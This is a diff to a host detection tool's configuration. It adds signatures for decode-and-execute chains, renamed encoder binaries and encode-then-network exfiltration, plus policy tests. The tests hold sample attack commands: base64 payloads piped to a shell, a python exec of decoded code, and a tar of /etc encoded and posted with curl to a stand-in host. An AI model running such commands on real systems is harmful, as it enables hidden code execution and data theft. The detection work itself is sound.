@@ -8,6 +8,15 @@ settings {
   environment = "production"
   # Names this machine in alerts; empty means the system hostname.
   hostname = ""
+  # Ancestors (pid, exe, argv, uid) each alert carries.
+  ancestry_depth = 8
+  # Encoder binaries identified by device, inode and SHA-256 at start-up and
+  # on reload, so that a renamed or copied one still matches. Missing ones
+  # are skipped; a multi-call binary (busybox) is not used.
+  encoder_binaries = [
+    "/usr/bin/base64", "/usr/bin/base32", "/usr/bin/basenc", "/usr/bin/xxd",
+    "/usr/bin/uuencode", "/usr/bin/uudecode",
+  ]
 }
 
 audit {
@@ -41,6 +50,10 @@ audit {
   max_in_flight = 4096
 }
 
+# ---------------------------------------------------------------------------
+# Signatures. docs/policy.md describes every condition; `encwatch check
+# --config FILE -- ARGV...` shows what a command line would raise.
+
 signature "data_encoder_exec" {
   description = "Data encoder execution"
   category    = "Execution"
@@ -54,6 +67,253 @@ signature "data_encoder_exec" {
     "base64mime", "base64pem", "base64plain", "base64url", "basez", "ascii85",
     "urlencode", "uuencode", "uudecode", "basenc",
   ]
+  # Decoding is what hides a payload; encoding alone is everyday build work
+  # (encoder_then_network covers encoding for exfiltration), so only decode
+  # runs alert here.
+  mode = "decode"
+
+  # A script decoding in a loop raises a handful of alerts, not thousands.
+  throttle {
+    per    = "parent_exe"
+    max    = 10
+    window = "1m"
+  }
+  throttle {
+    per    = "host"
+    max    = 100
+    window = "1m"
+  }
+  actions {
+    default    = ["Review the decoded data and the parent process"]
+    ci         = ["Check the pipeline step that ran it; expected only for secrets decoding"]
+    production = ["Identify the parent process and its user", "Preserve the decoded output", "Escalate if the parent is a web server or a shell without a tty"]
+  }
+}
+
+signature "decoder_piped_to_interpreter" {
+  description = "Decoded data fed to a shell or interpreter"
+  category    = "Defense Evasion"
+  method      = "Deobfuscate/Decode Files or Information"
+  importance  = "critical"
+  mitre       = ["T1140", "T1027", "T1059.004"]
+  # echo ... | base64 -d | bash: both are children of the same shell and
+  # exec within milliseconds, in either order.
+  sequence {
+    by     = "parent"
+    within = "3s"
+    step "decoder" {
+      executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "perl"]
+      mode        = "decode"
+    }
+    step "interpreter" {
+      executables = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "perl", "ruby", "php", "node"]
+      # Reading the script from stdin or a file, not running inline code.
+      no_flags = ["-c", "-e", "-E", "-r", "--version", "--help"]
+    }
+  }
+  actions {
+    default = ["Treat as hands-on-keyboard or dropper activity", "Capture the decoded script", "Isolate the host if the parent is unexpected"]
+  }
+}
+
+signature "decoder_then_tmp_exec" {
+  description = "Decoded data followed by an exec from a world-writable directory"
+  category    = "Defense Evasion"
+  method      = "Deobfuscate/Decode Files or Information"
+  importance  = "critical"
+  mitre       = ["T1140", "T1105"]
+  sequence {
+    by     = "parent"
+    within = "30s"
+    ordered = true
+    step "decoder" {
+      executables = ["base64", "base32", "basenc", "base16", "base58", "uudecode", "xxd", "openssl"]
+      mode        = "decode"
+    }
+    # Failed execs count: a decoded script without a shebang fails with
+    # ENOEXEC before the shell runs it itself.
+    step "tmp_exec" {
+      paths = ["/tmp/*", "/dev/shm/*", "/var/tmp/*", "/run/user/*"]
+    }
+  }
+  actions {
+    default = ["Hash and preserve the executed file", "Isolate the host"]
+  }
+}
+
+signature "interpreter_inline_decode" {
+  description = "Interpreter decoding an inline blob"
+  category    = "Defense Evasion"
+  method      = "Obfuscated Files or Information"
+  importance  = "high"
+  mitre       = ["T1027", "T1140", "T1059"]
+  executables = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "pypy", "perl", "ruby", "php", "node", "nodejs"]
+  match {
+    decode_calls = ["base64", "base32"]
+  }
+  match {
+    payload = ["shell", "blob", "elf", "shebang"]
+    payload_encodings = ["base64", "base32"]
+  }
+  throttle {
+    per    = "ancestry"
+    max    = 5
+    window = "1m"
+  }
+  actions {
+    default = ["Read the decoded preview in the alert", "Find what started the interpreter"]
+  }
+}
+
+signature "base64_shebang_cmdline" {
+  description = "Base64-encoded script (shebang) in a command line"
+  category    = "Defense Evasion"
+  method      = "Obfuscated Files or Information"
+  importance  = "critical"
+  mitre       = ["T1027", "T1140"]
+  executables = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "echo", "printf"]
+  payload           = ["shebang", "elf"]
+  payload_encodings = ["base64", "base32"]
+  actions {
+    default = ["Capture the decoded script from the alert preview", "Isolate the host"]
+  }
+}
+
+signature "hex_payload_decode" {
+  description = "Hex payload decoded"
+  category    = "Defense Evasion"
+  method      = "Deobfuscate/Decode Files or Information"
+  importance  = "high"
+  mitre       = ["T1140", "T1027"]
+  match {
+    executables = ["xxd"]
+    mode        = "decode"
+  }
+  match {
+    executables  = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "pypy", "perl", "ruby", "php", "node", "nodejs"]
+    decode_calls = ["hex"]
+  }
+  match {
+    executables       = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "echo", "printf"]
+    payload           = ["shebang", "elf", "shell"]
+    payload_encodings = ["hex"]
+  }
+  throttle {
+    per    = "parent_exe"
+    max    = 10
+    window = "1m"
+  }
+  actions {
+    default = ["Review the decoded bytes and the parent process"]
+  }
+}
+
+signature "encoder_then_network" {
+  description = "Encoded data sent to a network tool (exfiltration)"
+  category    = "Exfiltration"
+  method      = "Data Encoding"
+  importance  = "high"
+  mitre       = ["T1132.001", "T1048", "T1041"]
+  sequence {
+    by     = "parent"
+    within = "10s"
+    step "encoder" {
+      executables = ["base64", "base32", "basenc", "base16", "base58", "xxd", "openssl", "uuencode"]
+      mode        = "encode"
+    }
+    step "network" {
+      executables = ["curl", "wget", "nc", "ncat", "netcat", "socat", "dig", "nslookup", "host", "telnet"]
+    }
+  }
+  actions {
+    default    = ["Find the destination in the network tool's arguments", "Check what data was encoded"]
+    production = ["Block the destination", "Find the destination in the network tool's arguments", "Check what data was encoded"]
+  }
+}
+
+signature "renamed_encoder" {
+  description = "Renamed or copied encoder binary"
+  category    = "Defense Evasion"
+  method      = "Masquerading"
+  importance  = "high"
+  mitre       = ["T1036.003", "T1027"]
+  # The executed file is a known encoder (same device and inode, or same
+  # SHA-256) under another name.
+  match {
+    renamed_encoder = true
+  }
+  # argv[0] names an encoder the kernel did not run.
+  match {
+    executables    = ["base64", "base32", "basenc", "base16", "base58", "uudecode", "uuencode", "xxd"]
+    argv0_mismatch = true
+  }
+  actions {
+    default = ["Find who copied the binary and where it lives", "Hash and preserve it"]
+  }
+}
+
+# ---------------------------------------------------------------------------
+# Suppressions. Each is counted by its reason in the metrics.
+
+allow "help_and_version" {
+  reason      = "asking a tool for its help or version decodes nothing"
+  any_flags   = ["--help", "--version"]
+  max_args    = 1
+}
+
+allow "busybox_applets" {
+  reason      = "busybox runs its applets under their own argv[0]"
+  signatures  = ["renamed_encoder"]
+  executables = ["busybox"]
+}
+
+# ---------------------------------------------------------------------------
+# Policy tests, run by `encwatch validate`.
+
+test "pipeline_to_shell" {
+  command = "sh -c 'echo IyEvYmluL3NoCmlkCg== | base64 -d | sh'"
+  expect  = ["decoder_piped_to_interpreter", "data_encoder_exec", "interpreter_inline_decode", "base64_shebang_cmdline"]
+}
+
+test "plain_decode" {
+  argv   = ["base64", "-d", "secret.b64"]
+  expect = ["data_encoder_exec"]
+}
+
+test "version_is_quiet" {
+  argv       = ["base64", "--version"]
+  expect_not = ["data_encoder_exec", "renamed_encoder"]
+}
+
+test "encode_is_quiet" {
+  command    = "base64 -w0 cert.pem"
+  expect_not = ["data_encoder_exec"]
+}
+
+test "python_inline" {
+  argv   = ["python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"]
+  expect = ["interpreter_inline_decode"]
+}
+
+test "xxd_revert" {
+  command = "xxd -r -p payload.hex"
+  parent  = "bash"
+  expect  = ["hex_payload_decode"]
+}
+
+test "xxd_dump_is_quiet" {
+  command    = "xxd -p /dev/urandom"
+  expect_not = ["hex_payload_decode"]
+}
+
+test "exfiltration" {
+  command = "sh -c 'tar cz /etc | base64 | curl -d @- https://example.invalid/u'"
+  expect  = ["encoder_then_network"]
+}
+
+test "git_is_quiet" {
+  command    = "git commit -m 'fix build'"
+  expect_not = ["data_encoder_exec", "interpreter_inline_decode"]
 }
 
 sink "stdout" "console" {
